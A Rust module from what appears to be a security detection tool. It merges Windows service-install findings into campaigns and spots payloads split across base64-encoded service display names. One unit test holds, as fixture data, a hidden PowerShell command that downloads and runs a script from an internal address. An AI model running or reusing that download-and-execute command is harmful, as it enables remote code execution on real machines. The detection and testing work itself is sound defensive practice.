//! Campaigns: many services on one host from one account in a short span (a mass deployment),
//! many start time-outs of random-named services, and one source moving to many targets. A
//! host's mass deployment is one finding with the count, the first and last, and the pattern
//! its names carry (display names that decode as base64 in install order); a source's moves
//! keep their findings and share a campaign id.

use super::assemble::finding_id;
use super::finding::{Campaign, CampaignKind, Finding, Stage, StageRef};
use super::score::Weights;
use base64::Engine as _;
use chrono::{DateTime, Utc};
use std::collections::{BTreeMap, BTreeSet};

/// The most events of one stage a merged finding lists (as chains do).
const MAX_STAGES: usize = super::chain::MAX_LINKS_PER_STAGE;

/// Merges each mass deployment among one host's findings into one finding. Only findings the
/// allow-list left visible take part: benign mass installs keep their allow-list paths.
pub fn merge_mass_installs(found: &mut Vec<Finding>, w: &Weights) {
    let rule = &w.campaign;
    let mut by_installer: BTreeMap<String, Vec<(DateTime<Utc>, usize)>> = BTreeMap::new();
    for (i, f) in found.iter().enumerate() {
        if f.is_suppressed() || f.campaign.is_some() {
            continue;
        }
        if let Some(t) = install_time(f) {
            let who = f.user.clone().unwrap_or_default().to_ascii_lowercase();
            by_installer.entry(who).or_default().push((t, i));
        }
    }
    let mut groups: Vec<Vec<usize>> = Vec::new();
    // Installs close enough to be grouped into one chain already: a campaign of one finding.
    for (i, f) in found.iter().enumerate() {
        if !f.is_suppressed() && f.campaign.is_none() && f.services.len() >= rule.min_services {
            groups.push(vec![i]);
        }
    }
    let single: BTreeSet<usize> = groups.iter().flatten().copied().collect();
    for list in by_installer.values_mut() {
        list.retain(|(_, i)| !single.contains(i));
    }
    for (_, mut list) in by_installer {
        list.sort();
        let mut run: Vec<(DateTime<Utc>, usize)> = Vec::new();
        for item in list {
            if run
                .last()
                .is_some_and(|(t, _)| (item.0 - *t).num_seconds() > rule.max_gap_secs)
            {
                take_run(&mut run, rule.min_services, &mut groups);
            }
            run.push(item);
        }
        take_run(&mut run, rule.min_services, &mut groups);
    }
    if groups.is_empty() {
        return;
    }
    let mut merged_away: BTreeSet<usize> = BTreeSet::new();
    let mut merged: Vec<Finding> = Vec::new();
    for g in groups {
        let members: Vec<&Finding> = g.iter().map(|&i| &found[i]).collect();
        merged.push(merge(&members, CampaignKind::MassInstall, w));
        merged_away.extend(g);
    }
    let mut i = 0;
    found.retain(|_| {
        let keep = !merged_away.contains(&i);
        i += 1;
        keep
    });
    found.extend(merged);
}

fn take_run(run: &mut Vec<(DateTime<Utc>, usize)>, min: usize, groups: &mut Vec<Vec<usize>>) {
    if run.len() >= min.max(2) {
        groups.push(run.iter().map(|(_, i)| *i).collect());
    }
    run.clear();
}

fn install_time(f: &Finding) -> Option<DateTime<Utc>> {
    f.stages
        .iter()
        .filter(|s| s.stage == Stage::Install)
        .map(|s| s.time)
        .min()
}

/// One finding of many: every member's facts, stages capped per stage, scored as its best
/// member plus the campaign's points (so a campaign never ranks below what it merged).
pub fn merge(members: &[&Finding], kind: CampaignKind, w: &Weights) -> Finding {
    let mut ordered: Vec<&Finding> = members.to_vec();
    ordered.sort_by_key(|f| (install_time(f).unwrap_or(f.first_seen), f.id.clone()));
    let best = members
        .iter()
        .copied()
        .min_by(|a, b| Finding::order(a, b))
        .unwrap_or(ordered[0]);
    let mut out = best.clone();
    let names: Vec<String> = ordered
        .iter()
        .flat_map(|f| f.services.iter())
        .filter_map(|s| s.name.clone().or_else(|| s.key_name.clone()))
        .collect();
    let mut services = Vec::new();
    let mut seen = BTreeSet::new();
    for s in ordered.iter().flat_map(|f| f.services.iter()) {
        if seen.insert((s.name.clone(), s.key_name.clone(), s.image_path.clone())) {
            services.push(s.clone());
        }
    }
    out.services = services;
    let (stages, omitted) = merged_stages(&ordered);
    out.stages_omitted = omitted;
    merge_facts(&mut out, &ordered);
    out.first_seen = stages.first().map_or(best.first_seen, |s| s.time);
    out.last_seen = stages.last().map_or(best.last_seen, |s| s.time);
    let present: BTreeSet<Stage> = stages.iter().map(|s| s.stage).collect();
    out.missing_stages = Stage::missing(&present);
    out.stages = stages;
    let installs = out.stages.iter().filter(|s| s.stage == Stage::Install);
    let first = installs
        .clone()
        .map(|s| s.time)
        .min()
        .unwrap_or(out.first_seen);
    let last = installs.map(|s| s.time).max().unwrap_or(out.last_seen);
    let count = names.len().max(members.len());
    let campaign = describe(kind, &names, count, first, last, &out.target_key);
    let (score, parts) = w.with_campaign(&campaign, std::mem::take(&mut out.score_breakdown));
    out.score = score;
    out.score_breakdown = parts;
    out.severity = w.severity(out.score).max(best.severity);
    out.recommendation = w.recommendation(out.severity).to_string();
    out.campaign = Some(campaign);
    out.id = finding_id(&out.target_key, &out.stages);
    out
}

/// Every member's stages in time order, at most `MAX_STAGES` of each stage; how many were left out.
fn merged_stages(ordered: &[&Finding]) -> (Vec<StageRef>, u64) {
    let mut stages: Vec<StageRef> = ordered.iter().flat_map(|f| f.stages.clone()).collect();
    stages.sort_by(|a, b| {
        a.time
            .cmp(&b.time)
            .then(a.stage.cmp(&b.stage))
            .then_with(|| a.evidence.cmp(&b.evidence))
    });
    stages.dedup_by(|a, b| a.evidence == b.evidence && a.stage == b.stage);
    let mut per_stage: BTreeMap<Stage, usize> = BTreeMap::new();
    let mut omitted: u64 = ordered.iter().map(|f| f.stages_omitted).sum();
    stages.retain(|s| {
        let n = per_stage.entry(s.stage).or_default();
        *n += 1;
        if *n > MAX_STAGES {
            omitted += 1;
            false
        } else {
            true
        }
    });
    (stages, omitted)
}

/// The members' sources, tools, signals, processes, logon ids and techniques, joined.
fn merge_facts(out: &mut Finding, ordered: &[&Finding]) {
    let union = |get: &dyn Fn(&Finding) -> &Vec<String>| -> Vec<String> {
        let set: BTreeSet<String> = ordered
            .iter()
            .flat_map(|f| get(f).iter().cloned())
            .collect();
        set.into_iter().collect()
    };
    out.source_hosts = union(&|f| &f.source_hosts);
    out.source_ips = union(&|f| &f.source_ips);
    out.tools = union(&|f| &f.tools);
    out.signals = union(&|f| &f.signals);
    let mut processes: Vec<String> = Vec::new();
    for p in ordered.iter().flat_map(|f| f.processes.iter()) {
        if processes.len() < MAX_STAGES && !processes.contains(p) {
            processes.push(p.clone());
        }
    }
    out.processes = processes;
    let ids: BTreeSet<_> = ordered
        .iter()
        .flat_map(|f| f.logon_ids.iter().copied())
        .collect();
    out.logon_ids = ids.into_iter().collect();
    let mut techniques = out.techniques.clone();
    for t in ordered.iter().flat_map(|f| f.techniques.iter()) {
        if !techniques.iter().any(|x| x.id == t.id) {
            techniques.push(t.clone());
        }
    }
    out.techniques = techniques;
}

/// The campaign's summary and, when the names carry one, its pattern.
pub fn describe(
    kind: CampaignKind,
    names: &[String],
    count: usize,
    first: DateTime<Utc>,
    last: DateTime<Utc>,
    scope: &str,
) -> Campaign {
    let minutes = ((last - first).num_seconds().max(0) + 59) / 60;
    let summary = match kind {
        CampaignKind::MassInstall => {
            format!("mass deployment: {count} services installed within {minutes} min")
        }
        CampaignKind::StartTimeouts => {
            format!("{count} service start time-outs of random-named services within {minutes} min")
        }
        CampaignKind::Source => format!("one source moved to {count} targets within {minutes} min"),
    };
    let pattern = decoded_names(names).or_else(|| random_names(names));
    Campaign {
        id: campaign_id(scope, first),
        kind,
        count,
        first,
        last,
        pattern,
        summary,
    }
}

fn campaign_id(scope: &str, first: DateTime<Utc>) -> String {
    use sha2::Digest;
    let digest = sha2::Sha256::digest(format!("{scope}|{}", first.timestamp()).as_bytes());
    let hex = digest.iter().take(6).fold(String::new(), |mut h, b| {
        use std::fmt::Write as _;
        let _ = write!(h, "{b:02x}");
        h
    });
    format!("C-{hex}")
}

/// Names in install order that decode as base64 to readable text (a payload split across
/// service display names): the start of the text.
pub fn decoded_names(names: &[String]) -> Option<String> {
    if names.len() < 2
        || !names.iter().all(|n| {
            n.len() >= 4
                && n.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
        })
    {
        return None;
    }
    let joined: String = names.concat();
    let trimmed = joined.trim_end_matches('=');
    let engine = base64::engine::general_purpose::STANDARD_NO_PAD;
    let bytes = engine.decode(trimmed).ok().or_else(|| {
        // Per-name padding inside the concatenation: decode each name on its own.
        names
            .iter()
            .map(|n| engine.decode(n.trim_end_matches('=')).ok())
            .collect::<Option<Vec<Vec<u8>>>>()
            .map(|parts| parts.concat())
    })?;
    let text = String::from_utf8_lossy(&bytes);
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let total = text.chars().count();
    if total < 8 || printable * 10 < total * 9 {
        return None;
    }
    let shown: String = text.chars().take(160).collect();
    let more = if total > 160 { "…" } else { "" };
    Some(format!(
        "display names decode as base64 in install order ({total} characters): {shown}{more}"
    ))
}

/// Names with no shared stem, unique, of letters and digits: generated, not a product's.
pub fn random_names(names: &[String]) -> Option<String> {
    if names.len() < 2 {
        return None;
    }
    let unique: BTreeSet<&str> = names.iter().map(String::as_str).collect();
    if unique.len() * 10 < names.len() * 9 {
        return None;
    }
    if !names
        .iter()
        .all(|n| n.len() >= 4 && n.bytes().all(|b| b.is_ascii_alphanumeric()))
    {
        return None;
    }
    // A product's services share a stem (`AcmeAgent01`, `AcmeAgent02`): count names sharing
    // their first three characters with another name.
    let mut stems: BTreeMap<String, usize> = BTreeMap::new();
    for n in names {
        *stems
            .entry(n.chars().take(3).collect::<String>().to_ascii_lowercase())
            .or_default() += 1;
    }
    let shared: usize = stems.values().filter(|&&c| c > 1).sum();
    if shared * 2 > names.len() {
        return None;
    }
    let (min, max) = names
        .iter()
        .map(String::len)
        .fold((usize::MAX, 0), |(a, b), l| (a.min(l), b.max(l)));
    let len = if min == max {
        format!("{min}")
    } else {
        format!("{min}-{max}")
    };
    Some(format!("random names of {len} letters and digits"))
}

/// Tags findings of one source that moved to many targets with a shared campaign id (the
/// findings stay separate: each target is its own case of triage).
pub fn tag_sources(findings: &mut [Finding], w: &Weights) {
    let rule = &w.campaign;
    let mut by_source: BTreeMap<String, Vec<usize>> = BTreeMap::new();
    for (i, f) in findings.iter().enumerate() {
        if f.is_suppressed() || f.campaign.is_some() {
            continue;
        }
        if let Some(src) = f.source_hosts.first().or(f.source_ips.first()) {
            by_source
                .entry(crate::model::host_key(src))
                .or_default()
                .push(i);
        }
    }
    for (src, mut list) in by_source {
        list.sort_by_key(|&i| (findings[i].first_seen, i));
        let mut start = 0;
        while start < list.len() {
            let t0 = findings[list[start]].first_seen;
            let mut end = start;
            while end + 1 < list.len()
                && (findings[list[end + 1]].first_seen - t0).num_seconds() <= rule.fan_out_secs
            {
                end += 1;
            }
            let run = &list[start..=end];
            let targets: BTreeSet<&str> = run
                .iter()
                .map(|&i| findings[i].target_key.as_str())
                .collect();
            if targets.len() >= rule.fan_out_targets.max(2) {
                let last = run
                    .iter()
                    .map(|&i| findings[i].first_seen)
                    .max()
                    .unwrap_or(t0);
                let mut c = describe(CampaignKind::Source, &[], targets.len(), t0, last, &src);
                c.summary = format!("{} from {src}", c.summary);
                for &i in run {
                    findings[i].campaign = Some(c.clone());
                }
            }
            start = end + 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_payload_split_across_names() {
        let payload = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a')";
        let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
        let names: Vec<String> = b64
            .as_bytes()
            .chunks(12)
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .collect();
        let p = decoded_names(&names).unwrap();
        assert!(p.contains("DownloadString"), "{p}");
        // Product names are not base64 text.
        let product: Vec<String> = (1..=20).map(|i| format!("AcmeAgent{i:02}")).collect();
        assert_eq!(decoded_names(&product), None);
        assert_eq!(random_names(&product), None);
    }

    #[test]
    fn random_names_versus_a_products_names() {
        let random: Vec<String> = [
            "xKdLmQpZ", "RtUfWbNa", "pLoKiJuH", "ZxCvBnMa", "QwErTyUi", "AsDfGhJk", "MnBvCxZa",
            "PoIuYtRe", "LkJhGfDs", "VbNmQwEr",
        ]
        .iter()
        .map(|s| (*s).to_string())
        .collect();
        assert!(random_names(&random).is_some());
        let drivers: Vec<String> = (1..=12).map(|i| format!("nvlddmkm{i}")).collect();
        assert_eq!(random_names(&drivers), None);
    }
}
